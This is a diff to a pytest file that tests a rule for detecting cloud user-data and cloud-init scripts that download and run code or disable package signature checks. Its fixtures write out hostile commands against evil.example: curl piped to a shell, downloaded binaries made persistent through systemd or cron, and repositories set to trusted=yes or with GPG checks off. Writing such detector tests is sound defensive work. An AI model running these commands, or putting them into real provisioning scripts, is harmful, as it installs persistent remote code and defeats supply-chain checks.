@@ -254,6 +254,16 @@ DOWNLOAD_FORMS: list[tuple[str, str]] = [
     ("timeout_prefix", f'timeout 60 bash -c "$(curl -s {EVIL})"'),
     ("nested_sh_c", f"sh -c 'curl -s {EVIL} | sh'"),
     ("dev_tcp", "exec 3<>/dev/tcp/evil.example/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3 | sh"),
+    ("command_name_in_variable", f"C=curl\n$C -s {EVIL} | sh"),
+    ("pip_module_from_url", "python3 -m pip install https://evil.example/pkg.tar.gz"),
+    ("downloaded_into_systemd", f"curl -so /etc/systemd/system/x.service {EVIL}\nsystemctl enable --now x"),
+    ("downloaded_into_cron_via_tee", f"curl -s {EVIL} | sudo tee /etc/cron.d/x"),
+    (
+        "unit_starts_downloaded_binary",
+        f"curl -so /usr/local/bin/agent {EVIL}\ncat > /etc/systemd/system/a.service <<EOF\n[Service]\n"
+        "ExecStart=/usr/local/bin/agent\nEOF\nsystemctl enable --now a",
+    ),
+    ("cron_starts_downloaded_binary", f"curl -so /opt/agent {EVIL}\necho '* * * * * root /opt/agent' > /etc/cron.d/a"),
     ("powershell_iex", f"powershell -Command \"iex ((New-Object Net.WebClient).DownloadString('{EVIL}'))\""),
 ]
 
@@ -356,6 +366,12 @@ CLOUD_INIT_FORMS: list[tuple[str, str]] = [
         "powershell_user_data",
         "<powershell>\nInvoke-WebRequest https://evil.example/a.exe -OutFile C:\\a.exe\nStart-Process C:\\a.exe\n</powershell>",
     ),
+    (
+        "write_files_unit_starts_runcmd_download",
+        "#cloud-config\nwrite_files:\n  - path: /etc/systemd/system/x.service\n    content: |\n      [Service]\n"
+        "      ExecStart=/opt/x/agent\nruncmd:\n  - curl -so /opt/x/agent https://evil.example/agent\n"
+        "  - systemctl enable --now x\n",
+    ),
     ("certutil", "certutil.exe -urlcache -split -f https://evil.example/a.exe C:\\a.exe && C:\\a.exe"),
 ]
 
@@ -417,6 +433,39 @@ def test_fails_when_carrier_names_a_script_url(case, type_, base, path, value):
     assert "evil.example" in found[0] or "gs://b/x.sh" in found[0]
 
 
+UNSIGNED_FORMS: list[tuple[str, str]] = [
+    (
+        "deb_trusted_yes",
+        "echo 'deb [trusted=yes] http://evil.example/apt stable main' > /etc/apt/sources.list.d/x.list",
+    ),
+    ("apt_allow_unauthenticated", "apt-get install -y --allow-unauthenticated agent"),
+    ("dnf_nogpgcheck", "dnf install -y --nogpgcheck agent"),
+    ("rpm_nosignature", "rpm -i --nosignature /tmp/agent.rpm"),
+    (
+        "yum_repo_gpgcheck_off",
+        "#cloud-config\nyum_repos:\n  x:\n    baseurl: http://evil.example/repo\n    gpgcheck: false\n",
+    ),
+    (
+        "cloud_config_apt_source_trusted",
+        "#cloud-config\napt:\n  sources:\n    x:\n      source: 'deb [trusted=yes] http://evil.example/apt stable main'\n",
+    ),
+]
+
+
+@pytest.mark.parametrize("case,text", UNSIGNED_FORMS, ids=[c[0] for c in UNSIGNED_FORMS])
+def test_fails_when_package_signatures_are_off(case, text):
+    found = violations(RULE, EC2, {"userData": text})
+    assert len(found) == 1 and "signed repository" in found[0], found
+
+
+def test_trusted_yes_repository_under_a_trusted_prefix_passes():
+    text = (
+        "echo 'deb [trusted=yes] https://artifacts.example.com/boot/apt stable main' > /etc/apt/sources.list.d/x.list"
+    )
+    assert violations(RULE, EC2, {"userData": text}, config=TRUSTED) == []
+    assert violations(RULE, EC2, {"userData": "dnf install -y --nogpgcheck agent"}, config=TRUSTED)
+
+
 # ---------------------------------------------------------------------------------------------
 # What is not a download of code
 
@@ -445,6 +494,12 @@ NOT_DOWNLOADS: list[tuple[str, str]] = [
     ("mention_in_echo", "echo 'never run curl https://x | sh here' >> /etc/motd"),
     ("commented_out", "# curl -s https://evil.example/x | sh"),
     ("grep_for_it", "grep -q 'curl' /etc/profile || true"),
+    ("comment_mentions_nogpgcheck", "# never use --nogpgcheck here\ndnf install -y agent"),
+    (
+        "signed_by_repository",
+        "echo 'deb [signed-by=/etc/apt/keyrings/k.gpg] https://x.example/apt s main' > /etc/apt/sources.list.d/x.list",
+    ),
+    ("pip_from_index", "python3 -m pip install requests==2.32.3"),
 ]
 
 
